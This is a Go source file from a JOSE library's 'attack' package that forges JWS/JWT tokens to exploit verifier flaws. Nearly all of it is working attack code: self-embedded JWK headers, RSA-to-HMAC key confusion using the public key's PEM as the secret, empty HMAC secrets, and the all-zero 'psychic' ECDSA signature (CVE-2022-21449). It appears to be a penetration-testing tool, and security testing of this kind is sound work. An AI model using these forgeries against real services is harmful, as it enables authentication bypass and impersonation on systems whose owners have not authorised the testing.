// Copyright (c) 2025 Jeremy Hahn
// Copyright (c) 2025 Automate The Things, LLC
//
// This file is part of go-josekit.
//
// go-josekit is dual-licensed:
//
// 1. GNU Affero General Public License v3.0 (AGPL-3.0)
//    See LICENSE file or visit https://www.gnu.org/licenses/agpl-3.0.html
//
// 2. Commercial License
//    Contact licensing@automatethethings.com for commercial licensing options.

// Package attack forges JWS objects that exploit common verifier flaws.
//
// Every attack takes a parsed object and returns a new one; the input is
// never modified. Attacks that sign with a key they chose or derived
// return that key in the Result so it can be exported and used to confirm
// the attack against a live target.
//
//	obj, _ := jose.Parse(token)
//	res, err := attack.KeyConfusion(obj, serverKey, jwa.HS256, true)
//	forged := res.Object.Serialize()
package attack

import (
	"bytes"
	"errors"
	"fmt"

	"github.com/jeremyhahn/go-josekit/pkg/engine"
	"github.com/jeremyhahn/go-josekit/pkg/jose"
	"github.com/jeremyhahn/go-josekit/pkg/jwa"
	"github.com/jeremyhahn/go-josekit/pkg/keys"
)

// ErrIncompatibleObjectType is returned when an attack is applied to a JWE.
var ErrIncompatibleObjectType = errors.New("attack: object is not a JWS")

// Result is the forged object and, where the attack signed with one, the key.
type Result struct {
	Object *jose.JWS
	Key    *keys.Key
}

func asJWS(obj jose.Object) (*jose.JWS, error) {
	jws, ok := obj.(*jose.JWS)
	if !ok || jws == nil {
		return nil, ErrIncompatibleObjectType
	}
	return jws, nil
}

// EmbeddedJWK signs obj with key and embeds the public half in the "jwk"
// header, for verifiers that trust a key supplied by the token itself. A
// nil key generates a fresh RSA-2048 key; an empty alg picks the default
// for the key (see DefaultAlgorithm).
func EmbeddedJWK(obj jose.Object, key *keys.Key, alg string) (*Result, error) {
	jws, err := asJWS(obj)
	if err != nil {
		return nil, err
	}
	if key == nil {
		key, err = keys.GenerateRSA(keys.DefaultRSABits, "")
		if err != nil {
			return nil, err
		}
	}
	if alg == "" {
		alg, err = DefaultAlgorithm(key)
		if err != nil {
			return nil, err
		}
	}

	embedded, err := key.JWK(false)
	if err != nil {
		return nil, err
	}
	header, err := jws.Header().Set(jose.HeaderAlgorithm, alg)
	if err != nil {
		return nil, err
	}
	if key.ID() != "" {
		header = header.MustSet(jose.HeaderKeyID, key.ID())
	}
	if header, err = header.Set(jose.HeaderJWK, embedded); err != nil {
		return nil, err
	}

	signed, err := engine.Sign(jws.WithHeader(header), key)
	if err != nil {
		return nil, err
	}
	return &Result{Object: signed, Key: key}, nil
}

// DefaultAlgorithm returns the signing algorithm a key is normally used with.
func DefaultAlgorithm(key *keys.Key) (string, error) {
	switch key.Family() {
	case keys.RSA:
		return jwa.RS256, nil
	case keys.Symmetric:
		return "", fmt.Errorf("%w: a symmetric key cannot be embedded", engine.ErrKeyMismatch)
	}
	switch key.Curve() {
	case keys.P256:
		return jwa.ES256, nil
	case keys.P384:
		return jwa.ES384, nil
	case keys.P521:
		return jwa.ES512, nil
	case keys.Secp256k1:
		return jwa.ES256K, nil
	case keys.Ed25519, keys.Ed448:
		return jwa.EdDSA, nil
	}
	return "", fmt.Errorf("%w: %s keys cannot sign", engine.ErrKeyMismatch, key.Curve())
}

// KeyConfusion re-signs obj with an HMAC algorithm, using the PEM text of
// the public half of key as the HMAC secret. PEM text exported here ends
// in a newline; with trailingNewline unset that newline is dropped, since
// verifiers differ in how they load the key file.
func KeyConfusion(obj jose.Object, key *keys.Key, alg string, trailingNewline bool) (*Result, error) {
	jws, err := asJWS(obj)
	if err != nil {
		return nil, err
	}
	if alg, err = hmacAlgorithm(alg); err != nil {
		return nil, err
	}
	if key == nil {
		return nil, fmt.Errorf("%w: no key", engine.ErrKeyMismatch)
	}
	secret, err := keys.ToPEM(key, false)
	if err != nil {
		return nil, err
	}
	if !trailingNewline {
		secret = bytes.TrimRight(secret, "\n")
	}
	return signHMAC(jws, alg, keys.NewSymmetric(secret, key.ID()))
}

// EmptyKey re-signs obj with an HMAC algorithm and a zero-length secret.
func EmptyKey(obj jose.Object, alg string) (*Result, error) {
	jws, err := asJWS(obj)
	if err != nil {
		return nil, err
	}
	if alg, err = hmacAlgorithm(alg); err != nil {
		return nil, err
	}
	return signHMAC(jws, alg, keys.NewSymmetric(nil, ""))
}

// PsychicSignature replaces the signature with an ECDSA signature whose r
// and s are both zero (CVE-2022-21449). No key is involved.
func PsychicSignature(obj jose.Object, alg string) (*Result, error) {
	jws, err := asJWS(obj)
	if err != nil {
		return nil, err
	}
	if alg == "" {
		alg = jwa.ES256
	}
	desc, err := jwa.LookupKind(alg, jwa.Signature)
	if err != nil {
		return nil, err
	}
	if !desc.AcceptsFamily(keys.EC) {
		return nil, fmt.Errorf("%w: %s is not an ECDSA algorithm", jwa.ErrUnsupportedAlgorithm, alg)
	}
	forged := jws.WithAlgorithm(desc.Name).WithSignature(make([]byte, desc.SignatureBytes))
	return &Result{Object: forged}, nil
}

func hmacAlgorithm(alg string) (string, error) {
	if alg == "" {
		return jwa.HS256, nil
	}
	desc, err := jwa.LookupKind(alg, jwa.Signature)
	if err != nil {
		return "", err
	}
	if !desc.AcceptsFamily(keys.Symmetric) {
		return "", fmt.Errorf("%w: %s is not an HMAC algorithm", jwa.ErrUnsupportedAlgorithm, alg)
	}
	return desc.Name, nil
}

func signHMAC(jws *jose.JWS, alg string, secret *keys.Key) (*Result, error) {
	signed, err := engine.Sign(jws.WithAlgorithm(alg), secret)
	if err != nil {
		return nil, err
	}
	return &Result{Object: signed, Key: secret}, nil
}
